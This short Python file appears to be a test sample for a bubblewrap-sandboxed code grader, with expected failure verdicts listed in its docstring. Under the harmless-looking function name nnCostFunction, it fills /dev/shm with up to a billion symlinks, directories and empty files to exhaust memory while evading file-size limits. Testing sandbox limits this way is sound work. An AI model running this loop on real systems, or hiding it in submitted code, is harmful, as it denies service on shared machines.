"""Fills what lies in memory with what no limit on files counts: links, folders and empty files.

Needs: bubblewrap
Verdict: had not returned after | OSError | PermissionError | FileNotFoundError
"""

import os


def nnCostFunction(*arguments):
    for number in range(10**9):
        os.symlink("x" * 4000, f"/dev/shm/{number}")
        os.mkdir(f"/dev/shm/folder{number}")
        os.close(os.open(f"/dev/shm/file{number}", os.O_CREAT))
